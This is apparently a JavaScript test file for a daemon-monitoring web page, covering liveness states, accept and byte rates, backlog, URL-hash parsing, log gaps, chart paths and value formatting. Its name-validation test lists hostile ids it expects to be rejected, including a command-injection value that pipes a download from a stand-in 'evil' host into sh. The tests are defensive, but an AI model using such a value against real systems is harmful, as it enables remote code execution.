// What of the page decides, without a browser: what is live, what is counted,
// what is kept.
'use strict';

const assert = require('node:assert');
const path = require('node:path');
const {test} = require('node:test');

const load = (name) => import(path.join(process.env.PAGE_FILES, `${name}.js`));

// Every sequence of `length` of `steps`.
function* sequences(steps, length) {
  if (length === 0) {
    yield [];
    return;
  }
  for (const rest of sequences(steps, length - 1)) {
    for (const step of steps) yield [...rest, step];
  }
}

test('over every short sequence it is live only where the daemon has just spoken', async () => {
  const {Liveness, SILENCE} = await load('liveness');
  const steps = ['a', 'b', 'error', 'second', 'silence', 'open', 'clock set back'];
  const TIMES = {'second': 1000, 'silence': SILENCE, 'clock set back': -1e6};
  for (const sequence of sequences(steps, 6)) {
    const liveness = new Liveness();
    let now = 1e8;
    let said = false;    // It speaks, and nothing else has come since.
    let asked = true;    // It has not been found lost since it was asked.
    let instance = null;
    let heard = null;    // When it has spoken or was asked, by the clock as it is.
    for (const step of sequence) {
      now += TIMES[step] ?? 1;
      if (step === 'clock set back') heard &&= Math.min(heard, now);
      if (step === 'open') {
        liveness.onOpen(now);
        heard = now;
        asked ||= said;
        said = false;
      } else if (step === 'error') {
        liveness.onError(now);
        said = false;
        asked &&= instance === null;
      } else if (step === 'a' || step === 'b') {
        liveness.onMessage(now, step);
        heard = now;
        if (instance !== null && instance !== step) {
          assert.strictEqual(liveness.state, 'restarted');
        }
        instance = step;
        said = true;
        asked = false;
      } else {
        const silent = liveness.onTick(now);
        heard ??= now;
        assert.strictEqual(silent, now - heard >= SILENCE, `${sequence}`);
        if (silent) {
          said = false;
          asked &&= instance === null;
        }
      }
      const state = liveness.state;
      assert.strictEqual(state === 'live' || state === 'restarted', said, `${sequence}`);
      assert.strictEqual(state === 'connecting', asked, `${sequence}`);
      assert.ok(liveness.since <= now, `${sequence}`);
    }
  }
});

test('a page that nobody has seen for long is not lost since then', async () => {
  const {Liveness, SILENCE} = await load('liveness');
  const HOUR = 3600000;
  for (const end of ['error', 'tick']) {
    const liveness = new Liveness();
    liveness.onMessage(1000, 'a');
    liveness.onOpen(HOUR);
    assert.strictEqual(liveness.onTick(HOUR + 1000), false);
    assert.strictEqual(liveness.state, 'connecting');
    if (end === 'error') liveness.onError(HOUR + 2000);
    else assert.ok(liveness.onTick(HOUR + SILENCE));
    assert.strictEqual(liveness.state, 'lost');
    assert.strictEqual(liveness.since, end === 'error' ? HOUR + 2000 : HOUR);
    // One that is lost stays so, and since then, however often it is looked at.
    liveness.onOpen(2 * HOUR);
    assert.strictEqual(liveness.state, 'lost');
    assert.ok(liveness.since <= HOUR + 2000);
  }
});

const message = (time, listeners, more = {}) => ({
  time: new Date(1e12 + time * 1000).toISOString(), instanceId: 'a', daemon: {},
  listeners: Object.entries(listeners).map(([name, accepted]) => (
    {name: `listeners/${name}`, status: {acceptedTotal: String(accepted)}})), ...more,
});

test('a rate is what came since the second before, and else not known', async () => {
  const {Model} = await load('model');
  const model = new Model();
  const rate = (name) => model.rows.get(`listeners/${name}`).rate('accepts', model.tick);
  const sum = () => model.history.accepts.last(model.tick, 1)[0];
  model.begin();
  model.take(message(0, {a: 100}, {hasMore: true}));
  model.take(message(0, {b: 7}));
  assert.ok(Number.isNaN(sum()));
  model.take(message(1, {a: 110}));
  assert.deepStrictEqual([rate('a'), rate('b'), sum()], [10, 0, 10]);
  model.take(message(3, {a: 130, b: 8}, {hasMore: true}));
  model.take(message(3, {c: 4}, {deleted: ['listeners/b']}));
  assert.deepStrictEqual([rate('a'), rate('c'), sum()], [10, 2, 12.5]);
  assert.strictEqual(model.rows.has('listeners/b'), false);
  // The stream has broken for ten seconds, in which c was deleted.
  model.begin();
  model.take(message(13, {a: 500}));
  assert.ok(Number.isNaN(sum()));
  assert.strictEqual(rate('a'), 0);
  assert.deepStrictEqual([...model.rows.keys()], ['listeners/a']);
  model.take(message(14, {a: 501}));
  assert.strictEqual(rate('a'), 1);
  const minute = model.minute(model.rows.get('listeners/a'), 'accepts');
  assert.strictEqual(minute[minute.length - 1], 1);
  assert.ok(minute.slice(-11, -1).every(Number.isNaN), `${minute}`);
  // Another life: what it has counted is less, and no rate below 0.
  model.begin();
  model.take(message(16, {a: 3}, {instanceId: 'b'}));
  model.take(message(17, {a: 5}, {instanceId: 'b'}));
  assert.strictEqual(rate('a'), 2);
  assert.ok(model.minute(model.rows.get('listeners/a'), 'accepts').every((v) => !(v < 0)));
});

test('a listener in the place of another counts from 0', async () => {
  const {Model} = await load('model');
  const count = (number) => ({acceptedTotal: `${number}`,
    bytesReceivedTotal: `${number * 10}`, bytesSentTotal: `${number * 100}`});
  const rates = ['accepts', 'received', 'sent'];
  // Over every short sequence of seconds, in each of which it has counted on, or
  // was deleted and created anew.
  for (const sequence of sequences(['0', '3', 'new 0', 'new 2'], 5)) {
    const model = new Model();
    model.begin();
    let now = 100;
    model.take({...message(0, {}), listeners: [
      {name: 'listeners/a', status: count(now)}]});
    let time = 0;
    for (const step of sequence) {
      const come = Number(step.replace('new ', ''));
      now = step.startsWith('new') ? come : now + come;
      model.take({...message(++time, {}), listeners: [
        {name: 'listeners/a', status: count(now)}]});
      const row = model.rows.get('listeners/a');
      const shown = rates.map((what) => row.rate(what, model.tick));
      assert.ok(shown.every((rate) => rate >= 0), `${sequence}: ${shown}`);
      // Unless the new one has as much as the old one had, which nobody sees.
      const sum = rates.map((what) => model.history[what].last(model.tick, 1)[0]);
      assert.deepStrictEqual(sum, shown);
      assert.ok(shown[0] <= come, `${sequence}: ${shown}`);
      if (!step.startsWith('new')) {
        assert.deepStrictEqual(shown, [come, 10 * come, 100 * come], `${sequence}`);
      }
    }
  }
  const model = new Model();
  model.begin();
  model.take(message(0, {a: 1000}));
  model.take(message(1, {a: 4}));
  assert.strictEqual(model.rows.get('listeners/a').rate('accepts', model.tick), 4);
});

test('who waits to be accepted is known of TCP that listens', async () => {
  const {Model} = await load('model');
  const model = new Model();
  model.begin();
  const inet = {inet: {address: '127.0.0.1', port: 80}};
  const unixSocket = {unixSocket: {path: '/a'}};
  const state = (name) => `LISTENER_STATE_${name}`;
  const backlogs = new Map([
    [{state: state('LISTENING'), listeningOn: inet, backlogConnections: 3}, 3],
    [{state: state('LISTENING'), listeningOn: inet}, 0],
    [{state: state('LISTENING'), listeningOn: unixSocket}, NaN],
    [{state: state('CLOSING'), listeningOn: inet}, NaN],
    [{state: state('CLOSED'), listeningOn: inet}, NaN],
    [{state: state('FAILED')}, NaN],
    [{}, NaN],
  ]);
  for (const [status, backlog] of backlogs) {
    model.take({...message(0, {}), listeners: [{name: 'listeners/a', status}]});
    assert.strictEqual(model.rows.get('listeners/a').backlog, backlog);
  }
});

test('the place of the page names a listener or nothing', async () => {
  const {isConnectionName, isListenerId, placeOf} = await load('names');
  const ids = ['a', 'web', 'web-1', 'a--b', 'a' + '0'.repeat(62)];
  const others = ['', 'A', '1a', '-a', 'a-', 'a' + '0'.repeat(63), 'a b', 'a\n', '\na',
    'web;curl evil|sh\n', 'web\n', 'a.b', 'a/b', 'ä', 'a\u2028', '$(a)', '`a`', "a'b"];
  for (const id of ids) {
    assert.ok(isListenerId(id), id);
    assert.deepStrictEqual(placeOf(`#listener/${encodeURIComponent(id)}`),
        {view: 'listener', id});
    assert.ok(isConnectionName(`connections/${id}`));
  }
  for (const id of others) {
    assert.ok(!isListenerId(id), id);
    assert.deepStrictEqual(placeOf(`#listener/${encodeURIComponent(id)}`),
        {view: 'listener', id: ''});
    assert.ok(!isConnectionName(id));
    if (id !== '1a') assert.ok(!isConnectionName(`connections/${id}`), id);
  }
  const overview = {view: 'overview', id: ''};
  for (const hash of ['', '#', '#%', '#%zz', '#%E0%A4%A', '#listener', '#x', '#events/',
    '#listener/%']) {
    assert.deepStrictEqual(placeOf(hash), overview, hash);
  }
  assert.deepStrictEqual(placeOf('#events'), {view: 'events', id: ''});
  assert.deepStrictEqual(placeOf('#listener/'), {view: 'listener', id: ''});
});

test('a hole in a log is told once, and where there is something before it', async () => {
  const {EventLog} = await load('log');
  const log = new EventLog();
  const event = {time: '2026-11-28T20:00:00Z', limitReached: {listener: 'listeners/a'}};
  const tones = () => log.entries.map(({tone}) => tone);
  log.noteHole(event.time, 1);
  assert.deepStrictEqual(tones(), []);
  log.add(event, 1);
  log.noteHole(event.time, 2);
  log.noteHole(event.time, 3);
  assert.deepStrictEqual(tones(), ['note', 'bad']);
});

test('the last minute of a listener that is still for long is empty', async () => {
  const {Model, SHORT} = await load('model');
  const model = new Model();
  model.begin();
  model.take(message(0, {a: 0}));
  model.take(message(1, {a: 9}));
  for (let t = 2; t <= SHORT; ++t) model.take(message(t, {}));
  const minute = () => model.minute(model.rows.get('listeners/a'), 'accepts');
  assert.strictEqual(minute()[0], 9);
  model.take(message(SHORT + 1, {}));
  assert.deepStrictEqual(minute(), Array(SHORT).fill(0));
  model.take(message(SHORT + 2, {a: 12}));
  assert.deepStrictEqual(minute(), [...Array(SHORT - 1).fill(0), 3]);
});

test('a line has a hole where nothing is known', async () => {
  globalThis.document = {};  // Which only the classes of that module need.
  const {path: line} = await load('chart');
  assert.strictEqual(line([0, 5, NaN, NaN, 10], 10, 100),
      'M0 100.00L1 50.00M4 0.00h.01');
  assert.strictEqual(line([NaN, 10, 20], 10, 100, true), 'M1 100V0.00L2 0.00V100H1Z');
});

test('values in words', async () => {
  const format = await load('format');
  assert.deepStrictEqual([0, 999, 1000, 1024, 102400, 1048576 * 1.5, NaN].map(format.bytes),
      ['0 B', '999 B', '1.0 KiB', '1.0 KiB', '100 KiB', '1.5 MiB', '–']);
  assert.strictEqual(format.bytes(2n ** 62n), '4.0 EiB');
  assert.deepStrictEqual([0, 0.00008, 0.0123, 1, 61, 3725, 90000].map(format.duration),
      ['0 s', '80 µs', '12 ms', '1 s', '1 min 1 s', '1 h 2 min', '1 d 1 h']);
  assert.strictEqual(format.address({inet: {address: '::', port: 80}}), 'tcp:[::]:80');
  assert.strictEqual(format.address({inet: {}}), 'tcp:*:0');
  assert.strictEqual(format.address({unixSocket: {path: '\0x'}}), 'unix:@x');
  assert.strictEqual(format.address(undefined), '');
  assert.strictEqual(format.count(2n ** 63n - 1n), '9,223,372,036,854,775,807');
});
